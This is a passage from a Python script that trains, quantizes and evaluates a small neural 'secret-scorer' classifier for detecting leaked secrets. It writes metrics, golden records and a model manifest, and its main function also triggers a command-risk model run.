    model = MeanOfMembers([train_mlp(xtr, ytr, [SEC_DIM, 64, 2], 2, epochs=8, lr=2e-3, seed=SEED + 1 + 10 * k, class_weight=[1.0, 1.0])
                           for k in range(SECRET_MEMBERS)]).eval()
    train_s = time.time() - t0
    fp32_path = os.path.join(out_dir, "model.fp32.onnx.tmp")
    onnx_path = os.path.join(out_dir, "model.onnx")
    export(model, SEC_DIM, fp32_path, onnx_path)
    fp32_size = os.path.getsize(fp32_path)
    os.remove(fp32_path)
    ref = Int8Reference(onnx_path)
    if not te:
        log("secret-scorer: no sealed test set (heldout/%s): test metrics are empty" % SECRET_TEST_FILE[0])
    pva_q, pdv_q = row_scores(ref.run, va), row_scores(ref.run, dv)
    pte_q = row_scores(ref.run, te) if te else np.zeros(0)
    pte_f = row_scores(lambda x: torch_probs(model, x), te) if te else np.zeros(0)
    yva = np.array([r["label"] for r in va])
    th = pick_secret_threshold(pva_q, yva)
    metrics = OrderedDict()
    metrics["test"] = sec_metrics(pte_q, te, th)
    metrics["test_torch_fp32"] = {k: v for k, v in sec_metrics(pte_f, te, th).items() if k in ("precision", "recall", "pr_auc")}
    metrics["development"] = OrderedDict()
    for _, source, _ in SECRET_DEV_FILES:
        sel = np.array([r["source"] == source for r in dv], dtype=bool)
        metrics["development"][source] = sec_metrics(pdv_q[sel], [r for r in dv if r["source"] == source], th)
    metrics["validation"] = sec_metrics(pva_q, va, th)
    # what the test set would allow if one could tune on it (NOT used to pick the threshold)
    yte = np.array([r["label"] for r in te])
    curve = []
    for t in (0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9):
        f = pte_q >= t
        tp = int((f & (yte == 1)).sum())
        curve.append({"threshold": t, "precision": round(tp / max(1, int(f.sum())), 4), "recall": round(tp / max(1, int((yte == 1).sum())), 4)})
    metrics["test_curve_for_information_only"] = curve
    metrics["int8_vs_fp32_max_abs_diff_test"] = round(float(np.abs(pte_q - pte_f).max()), 5) if te else None
    for source, d in metrics["development"].items():
        log("secret-scorer: threshold %.3f DEVELOPMENT %s precision %.4f recall %.4f" % (th, source, d["precision"], d["recall"]))
    log("secret-scorer: TEST (sealed) precision %.4f recall %.4f" % (metrics["test"]["precision"], metrics["test"]["recall"]))
    # errors on the test and development sets, for the card
    errors = []
    for r, p in list(zip(te, pte_q)) + list(zip(dv, pdv_q)):
        if (p >= th) != (r["label"] == 1):
            errors.append({"value": r["value"], "name": r["name"], "context": r["context"], "label": SECRET_LABELS[r["label"]], "p_secret": round(float(p), 3),
                           "source": r["source"]})
    held = te + dv
    write_jsonl(os.path.join(out_dir, "eval.jsonl"), [dict(r, label=SECRET_LABELS[r["label"]], parts=secret_parts(r["value"], r["name"], r["context"])) for r in held],
                ["value", "name", "context", "label", "source", "parts"])
    gr = random.Random(SEED + 8)
    gin = [{"value": held[i]["value"], "name": held[i]["name"], "context": held[i]["context"]} for i in sorted(gr.sample(range(len(held)), 40))]
    gin += [{"value": r["value"], "name": r["name"], "context": r["context"]} for r in gr.sample(va, 10)]
    gin += [{"value": v, "name": n, "context": c} for v, n, c in EDGE_SECRETS]
    golden = golden_records(gin, lambda d: secret_sparse(d["value"], d["name"], d["context"]), SEC_DIM, model, ref)
    with open(os.path.join(out_dir, "golden.json"), "w", encoding="utf-8") as f:
        json.dump(golden, f, ensure_ascii=True, indent=0)
        f.write("\n")
    golden_diff = max(abs(a - b) for g in golden for a, b in zip(g["probs"], g["probsInt8"]))
    metrics["golden_max_abs_diff_fp32_vs_int8"] = round(golden_diff, 5)
    size = os.path.getsize(onnx_path)
    sha = sha256_file(onnx_path)
    latency = measure_latency(model, lambda d: secret_sparse(d["value"], d["name"], d["context"]), SEC_DIM, gin[:30], ref)
    with open(os.path.join(out_dir, "metrics.json"), "w") as f:
        json.dump(OrderedDict([("model", "secret-scorer"), ("version", VERSION), ("sha256", sha), ("thresholds", {"secret": th}), ("metrics", metrics),
                               ("test_errors", errors), ("data", rep)]), f, indent=2, ensure_ascii=False)
        f.write("\n")
    timing = {"featurize_all_s": round(feat_s, 1), "train_s": round(train_s, 1), "total_s": round(time.time() - t_start, 1), "latency_30_values": latency}
    manifest = OrderedDict([
        ("name", "drydock-secret-scorer"), ("version", VERSION), ("task", "secret-scorer"), ("featurizer", FEATURIZER), ("inputName", "features"),
        ("inputDim", SEC_DIM), ("outputName", "probs"), ("labels", SECRET_LABELS), ("thresholds", {"secret": th}), ("sha256", sha), ("trainedAt", trained_at()),
        ("metrics", OrderedDict([("heldOutSources", [SECRET_TEST_FILE[1]]), ("precision", metrics["test"]["precision"]), ("recall", metrics["test"]["recall"]),
                                 ("rows", metrics["test"]["rows"]),
                                 ("development", [OrderedDict([("source", source), ("precision", d["precision"]), ("recall", d["recall"]), ("rows", d["rows"])])
                                                  for source, d in metrics["development"].items()]),
                                 ("probs", "numpy re-implementation of the row8 graph (any batch: rows are independent)"), ("evalFile", "eval.jsonl")])),
        ("sizeBytes", size), ("architecture", "mean of 3 independently seeded MLPs 1344-64-2 (ReLU, softmax each, averaged in graph); " + QUANTIZED),
        ("timing", timing),
    ])
    write_manifest_and_card(out_dir, manifest, secret_card(manifest, metrics, rep, th, size, fp32_size, timing, errors, golden_diff))
    log("secret-scorer: done, %d bytes, sha256 %s" % (size, sha))
    return metrics


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--only", choices=["cmd-risk", "secret-scorer"])
    ap.add_argument("--no-reverse", action="store_true", help="skip the report-only reverse-direction cmd-risk run")
    ap.add_argument("--out", default=MODELS_DIR, help="models folder (default: the repo's models/)")
    a = ap.parse_args()
    torch.set_num_threads(2)
    torch.use_deterministic_algorithms(True)
    log("torch", torch.__version__, "threads", torch.get_num_threads(), "corpus", corpus.corpus_path())
    if a.only in (None, "secret-scorer"):
        d = os.path.join(a.out, "secret-scorer")
        os.makedirs(d, exist_ok=True)
        run_secret(d)
    if a.only in (None, "cmd-risk"):
        d = os.path.join(a.out, "cmd-risk")
        os.makedirs(d, exist_ok=True)
        run_cmd(d, reverse=not a.no_reverse)


if __name__ == "__main__":
    main()
